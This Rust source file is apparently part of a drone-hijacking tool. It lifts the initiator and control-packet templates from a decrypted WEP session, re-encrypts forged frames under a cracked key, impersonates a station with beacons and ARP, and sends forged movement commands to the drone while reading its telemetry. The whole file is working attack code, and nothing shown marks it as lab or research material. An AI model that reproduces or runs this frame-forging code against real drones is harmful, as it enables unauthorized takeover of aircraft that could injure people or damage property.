//! Building the attacker's frames: the three packet formats lifted from a
//! decrypted session plus freshly encrypted beacons and ARP.

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};

use super::AttackError;
use crate::captureio::CaptureRecord;
use crate::framing::{
    encode_control, movement_for, reference_templates, CommandId, CrcConfig, MovementField, SessionTemplates,
    CONTROL_LEN, PREFIX_LEN, UNKNOWN_LEN, UNKNOWN_OFFSET,
};
use crate::linkproto::{
    classify_frame, parse_msdu, ArpOp, ArpPacket, FrameKind, IvSource, MacAddr, Msdu, Station, Telemetry, INITIATOR_LEN,
};
use crate::wepcrypt::WepKey;

/// Locally administered, distinct from both legitimate endpoints.
pub const DEFAULT_ATTACKER_MAC: MacAddr = MacAddr([0x02, 0x00, 0x00, 0x00, 0x00, 0x66]);
pub const DEFAULT_ATTACKER_IP: Ipv4Addr = Ipv4Addr::new(192, 168, 2, 3);

/// The constants a forger needs: the control packet's opaque prefix and
/// trailer, and the connection initiator as captured.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ForgedFrames {
    #[serde(with = "hex")]
    pub control_prefix: Vec<u8>,
    #[serde(with = "hex")]
    pub control_unknown: Vec<u8>,
    #[serde(with = "hex")]
    pub initiator: Vec<u8>,
    pub crc: CrcConfig,
}

impl ForgedFrames {
    pub fn from_templates(t: &SessionTemplates) -> Self {
        ForgedFrames {
            control_prefix: t.control_prefix.to_vec(),
            control_unknown: t.control_unknown.to_vec(),
            initiator: t.initiator.clone(),
            crc: CrcConfig::default(),
        }
    }

    pub fn reference() -> Self {
        Self::from_templates(reference_templates())
    }

    /// Lifts the templates from a decrypted capture: the first 0x40
    /// payload is the initiator, the first 0x3C payload donates the
    /// control prefix and trailer.
    pub fn from_capture(decrypted: &[CaptureRecord]) -> Result<Self, AttackError> {
        let mut initiator = None;
        let mut control = None;
        for r in decrypted.iter().filter(|r| r.is_decrypted()) {
            let Some(f) = classify_frame(&r.frame, r.channel, None, true) else {
                continue;
            };
            match f.kind {
                FrameKind::ConnectionInitiator if initiator.is_none() => initiator = f.udp_payload(),
                FrameKind::Control if control.is_none() => control = f.udp_payload(),
                _ => {}
            }
            if initiator.is_some() && control.is_some() {
                break;
            }
        }
        let initiator = initiator.ok_or(AttackError::MissingTemplate("connection initiator"))?;
        let control = control.ok_or(AttackError::MissingTemplate("control packet"))?;
        Ok(ForgedFrames {
            control_prefix: control[..PREFIX_LEN].to_vec(),
            control_unknown: control[UNKNOWN_OFFSET..UNKNOWN_OFFSET + UNKNOWN_LEN].to_vec(),
            initiator,
            crc: CrcConfig::default(),
        })
    }

    pub fn validate(&self) -> Result<(), AttackError> {
        if self.control_prefix.len() != PREFIX_LEN
            || self.control_unknown.len() != UNKNOWN_LEN
            || self.initiator.len() != INITIATOR_LEN
        {
            return Err(AttackError::MissingTemplate("well-sized templates"));
        }
        Ok(())
    }

    /// A control packet with a recomputed CRC.
    pub fn control_payload(&self, m: MovementField) -> [u8; CONTROL_LEN] {
        let prefix: &[u8; PREFIX_LEN] = self.control_prefix[..].try_into().expect("validated prefix");
        let unknown: &[u8; UNKNOWN_LEN] = self.control_unknown[..].try_into().expect("validated trailer");
        encode_control(m, prefix, unknown, self.crc)
    }
}

/// What the attacker's radio made of one frame it overheard.
#[derive(Debug, Clone, PartialEq)]
pub enum Heard {
    ArpReply {
        from: MacAddr,
        ip: Ipv4Addr,
    },
    Telemetry {
        from: MacAddr,
        t: Telemetry,
    },
    /// Any other unicast data frame addressed to us.
    ToUs {
        from: MacAddr,
    },
}

/// Produces attacker frames on demand under the cracked key. Every
/// encrypted frame gets the next IV from a counter.
#[derive(Debug, Clone)]
pub struct FrameFactory {
    station: Station,
    templates: ForgedFrames,
    drone_ip: Ipv4Addr,
    drone_mac: Option<MacAddr>,
}

pub fn forge_session(key: WepKey, templates: ForgedFrames, attacker_mac: MacAddr) -> FrameFactory {
    FrameFactory::new(
        key,
        templates,
        attacker_mac,
        DEFAULT_ATTACKER_IP,
        Ipv4Addr::new(192, 168, 2, 1),
    )
}

impl FrameFactory {
    pub fn new(
        key: WepKey,
        templates: ForgedFrames,
        attacker_mac: MacAddr,
        attacker_ip: Ipv4Addr,
        drone_ip: Ipv4Addr,
    ) -> Self {
        FrameFactory {
            station: Station::new(attacker_mac, attacker_ip, MacAddr::ZERO, key, IvSource::Sequential(1)),
            templates,
            drone_ip,
            drone_mac: None,
        }
    }

    pub fn mac(&self) -> MacAddr {
        self.station.mac
    }

    pub fn templates(&self) -> &ForgedFrames {
        &self.templates
    }

    /// BSSID of the drone's ad hoc network, learned from its beacon.
    pub fn set_bssid(&mut self, bssid: MacAddr) {
        self.station.bssid = bssid;
    }

    /// The drone's MAC doubles as the BSSID of its ad hoc network.
    pub fn set_drone(&mut self, mac: MacAddr) {
        self.station.bssid = mac;
        self.drone_mac = Some(mac);
    }

    pub fn drone_mac(&self) -> Option<MacAddr> {
        self.drone_mac
    }

    pub fn beacon(&mut self, now_us: u64, interval_ms: u64, channel: u8) -> Vec<u8> {
        self.station.beacon(now_us, interval_ms, channel)
    }

    pub fn arp_request(&mut self) -> Vec<u8> {
        let req = ArpPacket {
            op: ArpOp::Request,
            sender_mac: self.station.mac,
            sender_ip: self.station.ip,
            target_mac: MacAddr::ZERO,
            target_ip: self.drone_ip,
        };
        self.station.arp(MacAddr::BROADCAST, &req)
    }

    fn for_drone(&mut self, payload: &[u8]) -> Vec<u8> {
        let dst = self.drone_mac.unwrap_or(MacAddr::BROADCAST);
        self.station.udp(dst, self.drone_ip, payload)
    }

    /// The captured initiator, byte for byte, in a fresh WEP envelope.
    pub fn initiator(&mut self) -> Vec<u8> {
        let init = self.templates.initiator.clone();
        self.for_drone(&init)
    }

    pub fn control(&mut self, m: MovementField) -> Vec<u8> {
        let p = self.templates.control_payload(m);
        self.for_drone(&p)
    }

    pub fn command(&mut self, cmd: CommandId) -> Vec<u8> {
        self.control(movement_for(cmd))
    }

    pub fn interpret(&self, raw: &[u8]) -> Option<Heard> {
        let (header, msdu) = self.station.open(raw)?;
        match parse_msdu(&msdu) {
            Msdu::Arp(a)
                if a.op == ArpOp::Reply && a.target_mac == self.station.mac && a.sender_ip == self.drone_ip =>
            {
                Some(Heard::ArpReply {
                    from: a.sender_mac,
                    ip: a.sender_ip,
                })
            }
            Msdu::Udp { payload, .. } => {
                if Some(header.src) != self.drone_mac {
                    return None;
                }
                if let Some(t) = Telemetry::parse(&payload) {
                    Some(Heard::Telemetry { from: header.src, t })
                } else if header.dst == self.station.mac {
                    Some(Heard::ToUs { from: header.src })
                } else {
                    None
                }
            }
            _ => None,
        }
    }
}
